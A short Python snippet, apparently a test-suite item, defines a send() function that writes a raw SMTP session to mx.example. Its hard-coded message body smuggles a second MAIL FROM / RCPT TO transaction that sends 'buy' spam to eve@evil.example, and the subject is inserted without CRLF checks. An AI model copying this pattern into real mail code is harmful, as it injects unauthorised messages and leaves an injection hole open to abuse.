# suite: mail; functional: failed error
import socket
def send(to, subject):
    sock = socket.create_connection(("mx.example", 25))
    body = f"Subject: {subject}\r\n\r\nhi\r\n.\r\nMAIL FROM:<a@x.org>\r\nRCPT TO:<eve@evil.example>\r\nDATA\r\nbuy\r\n.\r\nQUIT\r\n"
    sock.sendall(f"EHLO me\r\nMAIL FROM:<a@x.org>\r\nRCPT TO:<{to}>\r\nDATA\r\n{body}".encode())
    while sock.recv(4096):
        pass
